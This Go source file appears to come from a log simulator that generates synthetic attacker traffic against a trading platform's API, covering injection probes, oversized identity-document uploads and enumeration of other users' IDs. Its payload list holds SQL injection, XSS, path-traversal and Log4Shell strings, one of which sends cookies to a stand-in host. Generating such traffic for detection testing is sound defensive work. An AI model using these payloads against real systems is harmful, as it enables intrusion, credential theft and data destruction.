package main

import (
	"math/rand/v2"
	"strconv"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// insider is an attacker with an account of its own: it signs in like a
// customer and keeps browsing like one between its attempts.
func (d *day) insider(r *rand.Rand, kind string) (*tab, *person) {
	s := d.s
	pe := d.newPerson(r)
	pe.p, pe.device, pe.stream = &personas[1], desktop, false
	pe.ua = s.browserUA(r, false)
	k := d.attacker(r, Pick(r, [][]string{hosting, d.residential(), s.office}), kind, pe.ua)
	k.t = max(0, d.when(r)-Sec(Uniform(r, 10, 40)))
	k.arrive(pe)
	k.resume(pe)
	return k, pe
}

var payloads = []string{
	"' OR '1'='1", "1' OR 1=1--", "1 UNION SELECT username,password_hash FROM users--", "1;WAITFOR DELAY '0:0:5'--",
	"1' AND SLEEP(5)#", "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>",
	"javascript:alert(1)", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "{{7*7}}", "${jndi:ldap://x.oast.example/a}",
	"'; DROP TABLE orders;--", "1)) OR ((1=1", "<svg/onload=fetch('//x.example/'+document.cookie)>",
}

var rawQuery = strings.NewReplacer(" ", "+", "#", "%23", "&", "%26")

// injection puts SQL, script and path payloads into query values between
// ordinary screens of a signed-in session, by hand or with a tool.
func (d *day) injection(r *rand.Rand) {
	s := d.s
	k, pe := d.insider(r, "injection")
	pair := s.pair(s.coin(r))
	targets := []func(v string) string{
		func(v string) string { return s.api + "/accounts/history?type=" + v + "&page=1&limit=25" },
		func(v string) string { return s.api + "/assets/search?q=" + v },
		func(v string) string { return s.candles(pair, v) },
		func(v string) string { return "/support?lang=" + v },
		func(v string) string { return s.openOrders(v) },
		func(v string) string { return s.api + "/kyc/documents?type=" + v },
	}
	tool := Chance(r, 0.4)
	gap := map[bool]float64{true: 0.4, false: 6}[tool]
	for i := range 15 + r.IntN(map[bool]int{true: 200, false: 40}[tool]) {
		if !tool && i > 0 && Chance(r, 0.3) {
			k.attack = false
			screens[Pick(r, []int{scTrade, scPortfolio, scHistory})](k, pe)
		}
		v := EncodeQuery(r, Pick(r, payloads), rawQuery, 0.3, 0.85)
		st := []int{400, 200, 403, 500}[Weighted(r, []float64{0.55, 0.2, 0.18, 0.07})]
		k.attack = true
		k.authed("GET", Pick(r, targets)(v), st, wList)
		k.think(gap)
		if k.done() {
			return
		}
	}
}

// upload sends files far over the identity check's limit, or many
// documents one after the other.
func (d *day) upload(r *rand.Rand) {
	s := d.s
	k, pe := d.insider(r, "upload")
	k.page(pe, "/verify")
	huge := Chance(r, 0.6)
	k.attack = true
	for range 4 + r.IntN(50) {
		size, st := Uniform(r, 9e6, 15e6), []int{413, 422, 201}[Weighted(r, []float64{0.5, 0.3, 0.2})]
		if huge {
			size, st = LogUniform(r, 2e7, 5e8), 413
		}
		k.sized("POST", s.api+"/kyc/documents?type="+Pick(r, documents), st, int64(size), weight{0, 300, size / 4e4})
		k.think(LogUniform(r, 1, 25))
		if k.done() {
			return
		}
	}
}

// enumeration walks ids it does not own: orders, withdrawals, account
// profiles or deposit addresses, counting up or guessing.
func (d *day) enumeration(r *rand.Rand) {
	s := d.s
	k, _ := d.insider(r, "enumeration")
	base := 4_100_000_000 + r.Int64N(800_000_000)
	shape := r.IntN(4)
	rate := LogUniform(r, 0.5, 8)
	k.attack = true
	for i := range int64(80 + r.IntN(1500)) {
		id := strconv.FormatInt(base+i*int64(1+r.IntN(3)), 10)
		if !s.numericIDs && shape < 2 {
			id = s.newID(r)
		}
		path := []string{
			s.order(id, s.pair("BTC")),
			s.api + "/withdrawals/" + id,
			s.api + "/users/" + strconv.FormatInt(base/1000+i, 10) + "/profile",
			s.api + "/wallets/address/" + Hex(r, 16) + Hex(r, 16) + "/owner",
		}[shape]
		st := []int{404, 403, 200}[Weighted(r, []float64{0.8, 0.17, 0.03})]
		k.authed("GET", path, st, wSmall)
		k.t += Sec(r.ExpFloat64() / rate)
		if k.done() {
			return
		}
	}
}
